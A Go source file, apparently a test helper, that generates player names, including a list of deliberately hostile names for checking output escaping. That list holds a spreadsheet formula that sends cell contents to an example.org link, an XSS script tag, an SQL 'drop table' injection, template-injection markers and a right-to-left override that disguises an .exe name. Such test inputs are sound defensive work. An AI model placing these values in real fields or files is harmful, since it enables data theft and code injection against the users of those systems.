package demo

import "strings"

// hostileNames are valid names that act as a formula, markup or control sequence where output is
// not escaped.
var hostileNames = []string{
	`=HYPERLINK("https://example.org/?"&A1,"Payslip")`,
	`<script>alert("Ada")</script>`,
	`Dee "the Boss" O'Neill, Jr.`,
	"+49 Karl Brandt",
	"-1+1 Müller",
	"@sum Eriksen",
	"\u202Egnp.exe Nadir",
	"مريم الزهراء",
	"שרה כהן; מנהלת",
	"山田 太郎",
	"Zoë 👩🏽‍🚀 Park",
	"{{ .Name }} ${7*7}",
	"'; drop table players; --",
	"Nicolás\u00a0\u200bde la Peña",
	strings.Repeat("Wolfeschlegelstein", 11) + "er",
}

var firstNames = strings.Fields(`
	Aaliyah Adaeze Ahmed Aiko Alejandra Amara Anders Aneta Anouk Arjun Astrid Aylin Beatriz
	Bogdan Camille Chidi Chloé Dagny Daniela Dimitri Eduardo Eilidh Elif Emeka Farah Fatima
	Felix Freya Gabriela Giorgos Hana Hassan Ingrid Isabela Ivan Jaroslav Jasmin João Kofi
	Kwame Lars Leila Liam Linh Lucía Magnus Mariam Mateusz Mei Milan Minh Mireille Naledi
	Natalia Ngozi Niamh Nikhil Olamide Oleksandr Paloma Pedro Priya Quentin Rania Ravi Rosa
	Sanna Seo-yeon Siobhán Sofia Stefan Sunita Tariq Thandiwe Tomasz Ursula Valentina Viktor
	Wanjiru Xiulan Yara Youssef Yuki Zainab Zofia`)

var lastNames = strings.Fields(`
	Abara Adeyemi Almeida Andersson Banerjee Barros Bergström Bianchi Castillo Chen Cohen
	Costa Dąbrowski Demir Diallo Dubois Eriksen Farouk Fernández Fischer Fofana García
	Georgiou Haddad Hansen Horvat Ibrahim Ivanova Jansen Johansson Kamau Kaplan Katō Khan
	Kowalska Kruger Laurent Lindqvist López Mahlangu Marković Mbeki Mehta Moreau Murphy
	Nakamura Nguyen Novák Nowak Ó'Sullivan Okonkwo Oliveira Omar Papadopoulos Park Pereira
	Petrenko Popescu Rahman Ramos Rossi Said Santos Schneider Silva Singh Sørensen Suzuki
	Takahashi Tanaka Torres Tran Vargas Wójcik Yılmaz Zhang`)

// playerNames returns n distinct names: the given ones first, then random ones.
func playerNames(random seeded, given []string, n int) []string {
	names := append([]string(nil), given...)
	taken := map[string]bool{}
	for len(names) < n {
		name := firstNames[random.IntN(len(firstNames))] + " " +
			lastNames[random.IntN(len(lastNames))]
		if !taken[name] {
			taken[name] = true
			names = append(names, name)
		}
	}
	return names
}
